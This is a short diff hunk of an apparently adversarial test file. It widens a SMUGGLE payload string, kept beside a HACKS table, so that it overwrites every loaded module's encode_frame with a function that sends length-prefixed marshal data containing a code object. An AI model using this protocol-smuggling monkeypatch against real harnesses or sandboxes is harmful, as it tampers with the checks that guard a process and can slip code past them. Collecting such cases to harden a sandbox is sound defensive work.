@@ -228,12 +228,12 @@ for _fd in range(3, 64):
 
 SMUGGLE = '''
 import marshal, sys
-_main = sys.modules.get("__main__")
 def _smuggled(message):
     body = marshal.dumps(["r", (lambda: 0).__code__, ..., StopIteration])
     return len(body).to_bytes(4, "big") + body
-if hasattr(_main, "encode_frame"):
-    _main.encode_frame = _smuggled
+for _m in list(sys.modules.values()):
+    if hasattr(_m, "encode_frame"):
+        _m.encode_frame = _smuggled
 '''
 
 HACKS: dict[str, Hack] = {
